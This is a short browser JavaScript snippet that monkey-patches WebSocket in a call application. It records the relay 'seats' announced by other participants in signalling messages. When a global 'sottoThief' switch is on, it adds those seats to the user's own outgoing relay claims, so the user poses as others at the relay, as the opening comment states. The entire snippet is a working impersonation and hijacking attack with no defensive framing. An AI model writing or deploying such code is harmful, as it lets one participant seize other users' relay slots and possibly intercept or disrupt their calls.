// Somebody in the call who says to be the others at the relay, beside being oneself: adds their seats to the own claims.
(() => {
  const seats = new Map();
  const claims = (data) => /^(\d+ )(\{"type":"relay".*)$/.exec(data ?? "");
  const Socket = window.WebSocket;
  window.WebSocket = class extends Socket {
    constructor(address, protocols) {
      super(address, protocols);
      this.addEventListener("message", ({ data }) => {
        if (typeof data !== "string" || !data.includes('"signal"')) return;
        const message = JSON.parse(data);
        const found = message.type === "signal" && claims(message.data);
        if (found) seats.set(message.from, JSON.parse(found[2]).seats[0]);
      });
    }
    send(data) {
      if (typeof data !== "string" || !data.includes('"signal"') || !globalThis.sottoThief.on) return super.send(data);
      const message = JSON.parse(data);
      const found = message.type === "signal" && claims(message.data);
      if (!found) return super.send(data);
      const signal = JSON.parse(found[2]);
      signal.seats = [...signal.seats.slice(0, 1), ...[...seats.values()].filter(Boolean)].slice(0, 3);
      super.send(JSON.stringify({ ...message, data: found[1] + JSON.stringify(signal) }));
    }
  };
  globalThis.sottoThief = { on: false };
})();
